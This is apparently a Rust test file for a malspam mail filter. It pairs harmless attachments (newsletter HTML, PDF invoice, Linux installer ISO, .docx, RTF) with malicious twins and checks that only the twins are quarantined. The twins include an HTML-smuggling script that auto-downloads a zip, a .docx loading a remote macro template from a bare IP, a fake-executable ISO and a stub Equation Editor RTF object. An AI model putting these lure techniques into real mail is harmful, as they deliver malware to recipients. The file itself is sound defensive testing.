//! Honest look-alikes of the payloads malspam carries: each must stay below
//! `tag`, so that the rules that hold RTF exploits, remote templates, disk
//! images with programs and smuggled files do not hold ordinary mail:
//! a newsletter with an HTML attachment, a PDF invoice with a link to the
//! sender's portal, an ISO of a Linux installer, a .docx whose template
//! lives on the sender's own SharePoint, an RTF with a picture. Each has
//! its malicious twin checked beside it, so a test that passes because the
//! parser saw nothing would fail.

use std::io::Write;

use malspam_milter::{Config, Engine, Envelope, Report, Verdict};

fn engine() -> Engine {
    let config = Config::parse("[organization]\ndomains = [\"example.jp\"]\n", "t.toml").unwrap();
    Engine::new(config).unwrap()
}

fn mail_from(from: &str, name: &str, content_type: &str, data: &[u8]) -> Vec<u8> {
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(data);
    let body: String = encoded
        .as_bytes()
        .chunks(76)
        .map(|l| format!("{}\r\n", std::str::from_utf8(l).unwrap()))
        .collect();
    format!(
        "From: {from}\r\nTo: staff@example.jp\r\nSubject: for you\r\n\
Message-ID: <honest@sender.example>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n\
Content-Type: text/plain; charset=utf-8\r\n\r\nPlease find the file attached.\r\n--b1\r\n\
Content-Type: {content_type}; name=\"{name}\"\r\n\
Content-Disposition: attachment; filename=\"{name}\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{body}--b1--\r\n"
    )
    .into_bytes()
}

fn scan(name: &str, content_type: &str, data: &[u8]) -> Report {
    engine().scan(
        Envelope::default(),
        &mail_from(
            "Contoso Billing <billing@contoso.example>",
            name,
            content_type,
            data,
        ),
    )
}

fn rules(r: &Report) -> Vec<String> {
    r.findings.iter().map(|f| f.full_rule()).collect()
}

fn assert_honest(r: &Report, what: &str) {
    assert!(r.verdict < Verdict::Tag, "{what}: {:?}", r.finding_lines());
}

#[test]
fn a_newsletter_with_an_html_attachment() {
    let html = format!(
        "<!DOCTYPE html><html><head><title>Newsletter</title>\
<script>function track(){{ var i = new Image(); i.src = 'https://stats.contoso.example/p.gif'; }}</script></head>\
<body onload=\"track()\"><h1>December news</h1><img src=\"data:image/png;base64,{}\">\
<p><a href=\"https://contoso.example/news\">Read more</a></p></body></html>",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    );
    assert_honest(
        &scan("news.html", "text/html", html.as_bytes()),
        "newsletter",
    );

    // Its twin smuggles a zip: decoded in the browser and offered as a download.
    let blob = "UEsDBBQAAAAIAA".repeat(200);
    let smuggler = format!(
        "<html><body><script>var b = atob('{blob}'); var a = new Uint8Array(b.length);\
for (var i = 0; i < b.length; i++) a[i] = b.charCodeAt(i);\
var f = new Blob([a], {{type: 'application/zip'}}); var l = document.createElement('a');\
l.href = URL.createObjectURL(f); l.download = 'invoice.zip'; l.click();</script></body></html>"
    );
    let r = scan("news.html", "text/html", smuggler.as_bytes());
    assert!(
        rules(&r).contains(&"payload.html_smuggling".to_string()),
        "{:?}",
        r.finding_lines()
    );
    assert_eq!(r.verdict, Verdict::Quarantine);
}

/// A small PDF with one link annotation to `url`.
fn pdf_with_link(url: &str) -> Vec<u8> {
    format!(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n\
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n\
3 0 obj << /Type /Page /Parent 2 0 R /Annots [4 0 R] /MediaBox [0 0 612 792] >> endobj\n\
4 0 obj << /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI ({url}) >> >> endobj\n\
trailer << /Root 1 0 R >>\n%%EOF\n"
    )
    .into_bytes()
}

#[test]
fn a_pdf_invoice_with_a_link_to_the_senders_portal() {
    let honest = pdf_with_link("https://billing.contoso.example/invoices/2026-11");
    assert_honest(
        &scan("invoice.pdf", "application/pdf", &honest),
        "PDF invoice",
    );
    let lure = pdf_with_link("http://203.0.113.50/inv/2026-11");
    let r = scan("invoice.pdf", "application/pdf", &lure);
    assert!(
        rules(&r).contains(&"payload.pdf_lure_link".to_string()),
        "{:?}",
        r.finding_lines()
    );
    assert!(r.verdict >= Verdict::Tag);
}

mod iso_image;
use iso_image::iso;

#[test]
fn an_iso_of_a_linux_installer() {
    // The kernel of a Linux installer is a bzImage with an EFI stub: it
    // starts "MZ" like a Windows program, but no double-click runs it.
    let kernel = b"MZ\xea\x07\x00\xc0 Linux kernel bzImage with EFI stub".to_vec();
    let efi = b"MZ\x90\x00 UEFI boot loader".to_vec();
    let boot: &[(&str, &[u8])] = &[("BOOTX64.EFI;1", &efi)];
    let honest = iso(
        &[
            ("README.TXT;1", b"Welcome to the installer.\n"),
            ("VMLINUZ.;1", &kernel),
            ("INSTALL.SH;1", b"#!/bin/sh\nexec ./installer \"$@\"\n"),
        ],
        Some(("BOOT", boot)),
    );
    let r = scan("installer.iso", "application/x-iso9660-image", &honest);
    assert_honest(&r, "Linux installer ISO");
    let mut pe = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    pe.resize(512, 0);
    let lure = iso(
        &[
            ("INVOICE.EXE;1", &pe),
            ("README.TXT;1", b"open the invoice\n"),
        ],
        None,
    );
    let r = scan("invoice.iso", "application/x-iso9660-image", &lure);
    assert!(
        rules(&r).contains(&"attachment.dangerous_type".to_string()),
        "{:?}",
        r.finding_lines()
    );
    assert_eq!(r.verdict, Verdict::Quarantine);
}

/// A .docx whose settings load a template from `target`.
fn docx_with_template(target: &str) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut w = zip::ZipWriter::new(&mut buf);
        let o = zip::write::SimpleFileOptions::default();
        let files: [(&str, String); 5] = [
            ("[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>".into()),
            ("_rels/.rels", "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>".into()),
            ("word/document.xml", "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Quarterly report</w:t></w:r></w:p></w:body></w:document>".into()),
            ("word/settings.xml", "<?xml version=\"1.0\"?><w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>".into()),
            ("word/_rels/settings.xml.rels", format!("<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>")),
        ];
        for (name, text) in files {
            w.start_file(name, o).unwrap();
            w.write_all(text.as_bytes()).unwrap();
        }
        w.finish().unwrap();
    }
    buf.into_inner()
}

#[test]
fn a_docx_whose_template_lives_on_the_senders_sharepoint() {
    let ct = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    let honest = docx_with_template("https://contoso.sharepoint.com/sites/templates/Report.dotx");
    assert_honest(
        &scan("report.docx", ct, &honest),
        "template on the sender's SharePoint",
    );
    let own = docx_with_template("https://intranet.contoso.example/templates/Report.dotx");
    assert_honest(
        &scan("report.docx", ct, &own),
        "template on the sender's own server",
    );
    let injected = docx_with_template("http://198.51.100.23/Report.dotm");
    let r = scan("report.docx", ct, &injected);
    assert!(
        rules(&r).contains(&"payload.remote_template".to_string()),
        "{:?}",
        r.finding_lines()
    );
    assert_eq!(r.verdict, Verdict::Quarantine);
}

#[test]
fn an_rtf_with_an_embedded_picture() {
    let honest = b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0 Dear customer,\\par\
{\\pict\\pngblip\\picw10\\pich10 89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489}\
\\par Regards\\par}";
    assert_honest(
        &scan("letter.rtf", "application/rtf", honest),
        "RTF with a picture",
    );
    // Its twin carries an Equation Editor object.
    let mut exploit =
        b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata ".to_vec();
    let mut objdata = Vec::new();
    objdata.extend_from_slice(&0x0501u32.to_le_bytes());
    objdata.extend_from_slice(&2u32.to_le_bytes());
    objdata.extend_from_slice(&11u32.to_le_bytes());
    objdata.extend_from_slice(b"Equation.3\0");
    objdata.extend_from_slice(&0u32.to_le_bytes());
    objdata.extend_from_slice(&0u32.to_le_bytes());
    objdata.extend_from_slice(&16u32.to_le_bytes());
    objdata.extend_from_slice(&[0x41; 16]);
    for b in &objdata {
        exploit.extend_from_slice(format!("{b:02x}").as_bytes());
    }
    exploit.extend_from_slice(b"}}}");
    let r = scan("letter.rtf", "application/rtf", &exploit);
    assert!(
        rules(&r).contains(&"payload.equation_editor".to_string()),
        "{:?}",
        r.finding_lines()
    );
    assert_eq!(r.verdict, Verdict::Quarantine);
}
